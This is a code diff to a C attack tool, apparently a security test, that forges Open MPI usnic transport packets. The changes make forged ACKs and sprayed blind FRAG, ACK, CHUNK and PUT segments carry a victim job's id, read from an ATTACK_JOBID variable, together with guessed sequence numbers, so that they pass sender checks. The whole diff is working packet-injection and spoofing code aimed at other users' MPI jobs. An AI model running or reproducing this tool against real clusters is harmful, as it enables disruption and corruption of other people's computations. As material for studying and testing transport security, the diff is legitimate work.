@@ -71,6 +71,7 @@ typedef struct {
     int own;          /* the attacker's own UDP socket */
     unsigned next_tag;
     long seen, sent;
+    uint64_t job;     /* spray: the victim's job id << 32 (ATTACK_JOBID), as a local user computes it */
 } attacker_t;
 
 /* Rank and channel of a job port */
@@ -183,7 +184,7 @@ static void forge_ack(attacker_t *a, const opal_btl_usnic_hdr_t *g, uint16_t spo
     h.magic = htole16(OPAL_BTL_USNIC_MAGIC);
     h.version = OPAL_BTL_USNIC_PROTO_VERSION;
     h.type = OPAL_BTL_USNIC_PKT_ACK;
-    h.sender_id = htole32((uint32_t) receiver);
+    h.sender = htole64((le64toh(g->sender) & ~(uint64_t) UINT32_MAX) | (uint32_t) receiver); /* same job */
     h.ack_seq = g->seq;
     h.flags = OPAL_BTL_USNIC_HDR_FLAG_ACK | OPAL_BTL_USNIC_HDR_FLAG_ACK_NEW | OPAL_BTL_USNIC_HDR_FLAG_LATE_DUP;
     h.credit = htole16(4096);
@@ -295,7 +296,7 @@ static uint32_t old_isn_guess(unsigned i)
     return (pid * 2654435761u) ^ (uint32_t) ts.tv_nsec ^ ((uint32_t) ts.tv_sec << 20);
 }
 
-static size_t blind_segment(uint8_t *buf, unsigned i, uint32_t sender)
+static size_t blind_segment(uint8_t *buf, unsigned i, uint64_t sender)
 {
     static const uint8_t types[] = {OPAL_BTL_USNIC_PKT_FRAG, OPAL_BTL_USNIC_PKT_ACK, OPAL_BTL_USNIC_PKT_CHUNK,
                                     OPAL_BTL_USNIC_PKT_PUT};
@@ -306,7 +307,7 @@ static size_t blind_segment(uint8_t *buf, unsigned i, uint32_t sender)
     h->magic = htole16(OPAL_BTL_USNIC_MAGIC);
     h->version = OPAL_BTL_USNIC_PROTO_VERSION;
     h->type = type;
-    h->sender_id = htole32(sender);
+    h->sender = htole64(sender);
     uint32_t seq = (0 == i % 3) ? old_isn_guess(i) : (uint32_t) random() * 2u + (uint32_t) (random() & 1);
     h->seq = htole32(seq);
     h->ack_seq = htole32(seq);
@@ -334,7 +335,7 @@ static int spray(attacker_t *a, double seconds)
         for (int to = 0; to < a->ports.n; ++to) {
             for (int s = 0; s < nranks; ++s) {
                 if (s != to / 2) {
-                    send_own(a, a->ports.port[to], buf, blind_segment(buf, i, (uint32_t) s));
+                    send_own(a, a->ports.port[to], buf, blind_segment(buf, i, a->job | (uint32_t) s));
                 }
             }
         }
@@ -363,6 +364,8 @@ int main(int argc, char **argv)
     srandom((unsigned) getpid());
     int rc;
     if (0 == strcmp(a.mode, "spray")) {
+        const char *job = getenv("ATTACK_JOBID");
+        a.job = (uint64_t) strtoull(NULL != job ? job : "0", NULL, 0) << 32;
         rc = spray(&a, seconds);
     } else if (0 == strcmp(a.mode, "frag-ahead-own")) {
         rc = frag_ahead_own(&a, seconds);
